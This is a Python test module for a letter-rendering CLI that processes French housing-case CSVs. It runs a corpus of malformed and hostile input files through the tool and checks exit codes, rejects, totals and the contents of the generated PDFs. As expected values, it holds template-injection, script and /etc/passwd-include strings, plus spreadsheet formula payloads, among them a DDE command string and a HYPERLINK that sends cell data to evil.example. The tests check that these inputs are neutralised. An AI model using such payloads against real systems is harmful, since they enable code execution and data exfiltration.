"""Every file of ``tests/data/hostile/`` through ``pexmail render``: exit code, rejects by row,
column and code, totals that add up, and PDFs that hold nothing they should not.

The files are made by ``tools/make_hostile_corpus.py``; the closing note of issue 8 lists
what each one tries and gets.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from pypdf import PdfReader

from pexmail.render import fetcher as fetcher_module

from .conftest import DATA, ROOT, RUN_DATE, pdf_words

CORPUS = DATA / "hostile"
PASSWD = "root:x:0:0"

# name → (exit code, (read, rendered, suppressed, rejected) or None, {(row, column, code)},
#          fragments of the printed output)
EXPECTED: dict[str, tuple[int, tuple[int, int, int, int] | None, set, tuple[str, ...]]] = {
    "empty.csv": (1, None, set(), ("empty.csv: the file is empty (no header line)",)),
    "blank.csv": (1, None, set(), ("the file is empty",)),
    "header-only.csv": (0, (0, 0, 0, 0), set(), ("rows: 0 read",)),
    "blank-rows.csv": (0, (1, 1, 0, 0), set(), ("1 rows, 0 rejected",)),
    "unknown-headers.csv": (
        1,
        None,
        set(),
        (
            "closest is 'drihl-exploc-cdp'",
            "postcode: expected a column 'Code postal'",
            "'CP postal'",
        ),
    ),
    "near-miss-optional-header.csv": (
        0,
        (1, 1, 0, 0),
        set(),
        ("column 'Loyer mensul' is not used: is it 'Loyer mensuel'?",),
    ),
    "duplicated-header.csv": (
        1,
        None,
        set(),
        ("columns 13 (M), 14 (N)", "may be meant as 'Date du bail'"),
    ),
    "no-header.csv": (1, None, set(), ("looks like a row of data",)),
    "ragged-rows.csv": (
        0,
        (4, 1, 0, 3),
        {(3, "", "ragged_row"), (4, "", "ragged_row"), (5, "", "ragged_row")},
        (),
    ),
    "oversized-field.csv": (0, (2, 1, 0, 1), {(2, "Adresse", "too_long")}, ()),
    "long-field.csv": (0, (2, 1, 0, 1), {(2, "Nom", "too_long")}, ()),
    "nul-bytes.csv": (0, (2, 1, 0, 1), {(2, "Nom", "nul_byte")}, ()),
    "control-characters.csv": (
        0,
        (4, 1, 0, 3),
        {
            (2, "Nom", "control_character"),
            (3, "Nom", "control_character"),
            (4, "Nom", "control_character"),
        },
        (),
    ),
    "invalid-utf8.csv": (0, (2, 1, 0, 1), {(3, "Prénom", "encoding")}, ()),
    "mixed-encodings.csv": (0, (2, 1, 0, 1), {(3, "Prénom", "encoding_mixed")}, ("cp1252",)),
    "utf16-lone-surrogate.csv": (0, (2, 1, 0, 1), {(3, "Date de l'acte", "encoding")}, ()),
    "utf16-truncated.csv": (0, (2, 1, 0, 1), {(3, "Allocataire CAF", "encoding")}, ()),
    "bad-values.csv": (
        0,
        (14, 1, 0, 13),
        {
            (2, "Montant de la dette", "amount_negative"),
            (3, "Montant de la dette", "amount_implausible"),
            (4, "Montant de la dette", "amount"),
            (5, "Montant de la dette", "amount_ambiguous"),
            (6, "Date de l'acte", "date_impossible"),
            (7, "Date de l'acte", "date_two_digit_year"),
            (8, "Date de l'acte", "date_future"),
            (9, "Type de bailleur", "landlord_type"),
            (10, "Code postal", "territory"),
            (11, "Code postal", "territory"),
            (12, "Code postal", "postcode"),
            (13, "Allocataire CAF", "yes_no"),
            (14, "Loyer mensuel", "amount_implausible"),
        },
        (),
    ),
    "unknown-stage.csv": (0, (2, 1, 0, 1), {(2, "Stade de la procédure", "stage")}, ()),
    "unterminated-quote.csv": (0, (2, 1, 0, 1), {(3, "", "unclosed_quote")}, ()),
    "formula-injection.csv": (0, (4, 3, 0, 1), {(5, "Montant de la dette", "amount")}, ()),
    "markup-injection.csv": (0, (6, 4, 2, 0), set(), ("address_unprintable 2",)),
}


def test_the_corpus_and_its_expectations_match():
    assert {p.name for p in CORPUS.glob("*.csv")} == set(EXPECTED)


@pytest.fixture
def fetched(monkeypatch) -> list[str]:
    """Every URL WeasyPrint asks the fetcher for."""
    seen: list[str] = []
    original = fetcher_module.AllowListFetcher.fetch

    def spy(self, url, headers=None):
        seen.append(url)
        return original(self, url, headers)

    monkeypatch.setattr(fetcher_module.AllowListFetcher, "fetch", spy)
    return seen


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_hostile_file_through_the_cli(cli, tmp_path, fetched, name):
    code, totals, rejects, fragments = EXPECTED[name]
    out = tmp_path / "out"
    result = cli(
        "render",
        CORPUS / name,
        "--out",
        out,
        "--date",
        RUN_DATE.isoformat(),
        "--catalog",
        ROOT / "catalog.yaml",
        "--format",
        "pdf",
        "--no-ledger",
    )
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    for fragment in fragments:
        assert fragment in result.output, result.output
    if totals is None:
        assert not out.exists() or not any(out.iterdir()), "refused before writing anything"
        return
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    rows = summary["rows"]
    assert (rows["read"], rows["rendered"], rows["suppressed"], rows["rejected"]) == totals
    assert rows["read"] == rows["rendered"] + rows["suppressed"] + rows["rejected"]
    with (out / "rejects.csv").open(encoding="utf-8-sig", newline="") as stream:
        found = {
            (int(r["row"]), r["column"], r["code"]) for r in csv.DictReader(stream, delimiter=";")
        }
    assert found == rejects
    pdfs = sorted((out / "letters").rglob("*.pdf"))
    assert len(pdfs) == summary["documents"]["by_format"].get("pdf", 0)
    for pdf in pdfs:
        assert PASSWD not in pdf_words(pdf)
        # The QR code is the only image a letter holds: nothing fetched was embedded.
        images = {image.data for page in PdfReader(pdf).pages for image in page.images}
        assert len(images) == 1
    allowed = (str(ROOT / "templates"), str(Path(fetcher_module.__file__).parent.parent / "fonts"))
    for url in fetched:
        assert url.startswith("qr:") or any(url.startswith(f"file://{root}") for root in allowed), (
            url
        )


def check_markup(out: Path) -> None:
    """Markup and template syntax in fields print as text in the PDF."""
    text = "".join(" ".join(pdf_words(p) for p in (out / "letters").rglob("*.pdf")).split())
    for literal in ("{{7*7}}", "{%include'/etc/passwd'%}", "<script>alert(1)</script>"):
        assert literal in text, literal
    assert "<class" not in text


def check_formulas(out: Path) -> None:
    """Case ids that are formulas are text in the manifest."""
    with (out / "manifest.csv").open(encoding="utf-8-sig", newline="") as stream:
        case_ids = [r["case_ids"] for r in csv.DictReader(stream, delimiter=";")]
    assert sorted(case_ids) == sorted(
        ["'=cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.example/?"&A1;"clic")', "'@SUM(1+1)"]
    )


EXTRA_CHECKS = {"markup-injection.csv": check_markup, "formula-injection.csv": check_formulas}
